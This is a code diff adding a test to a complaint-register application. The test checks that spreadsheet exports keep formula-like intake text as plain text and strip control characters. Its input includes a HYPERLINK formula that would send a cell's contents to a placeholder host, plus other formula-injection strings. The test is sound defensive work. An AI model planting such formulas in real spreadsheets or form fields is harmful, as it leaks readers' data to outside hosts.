@@ -47,3 +47,30 @@ def test_libreoffice_reads_the_register_export_with_the_same_values(database, tm
         assert seen[1] == mine[1].strftime("%Y-%m-%d %H:%M:%S")  # a real date value, not text
         amount = seen[8].replace(",", "")
         assert (float(amount) if amount else None) == (None if mine[8] is None else pytest.approx(mine[8]))
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")'
+
+
+def test_typed_text_that_looks_like_a_formula_stays_text_in_every_export(database, tmp_path):
+    """Issue 15: text typed at intake starting with = + - @ is never evaluated by a reader's
+    spreadsheet; data stored before intake refused control characters still exports."""
+    from app import cases
+    from app.models import Complaint
+    from tests.factories import intake_values
+
+    ref = cases.intake(intake_values(**{"complainant__name": "+王五", "business__name": FORMULA,
+                                        "complaint__facts": "@SUM(1+1) 空调不制冷"}))
+    Complaint.update(facts="旧数据\x1b[31m带控制字符\x07").where(Complaint.case == ref.id).execute()
+    register_out, archive_out = tmp_path / "登记簿.xlsx", tmp_path / "档案.xlsx"
+    excel.export_register(RegisterFilter(), "received_at", False, register_out)
+    excel.export_archive(archive_out)
+    for book, sheet, column, text in ((register_out, 1, 6, FORMULA), (register_out, 1, 4, "+王五"),
+                                      (archive_out, 3, 1, FORMULA)):
+        cells = [row[column] for row in load_workbook(book).worksheets[sheet - 1].iter_rows() if row[column].value]
+        assert [(c.value, c.data_type) for c in cells][1:] == [(text, "s")]
+        (tmp_path / "csv").exists() and shutil.rmtree(tmp_path / "csv")
+        seen = _as_csv(book, tmp_path, sheet)
+        assert seen[1][column] == text  # LibreOffice shows the text, not a link or a result
+    facts = [r for r in load_workbook(archive_out).worksheets[0].iter_rows(values_only=True) if r[0] == ref.case_no]
+    assert "旧数据\ufffd[31m带控制字符\ufffd" in facts[0]
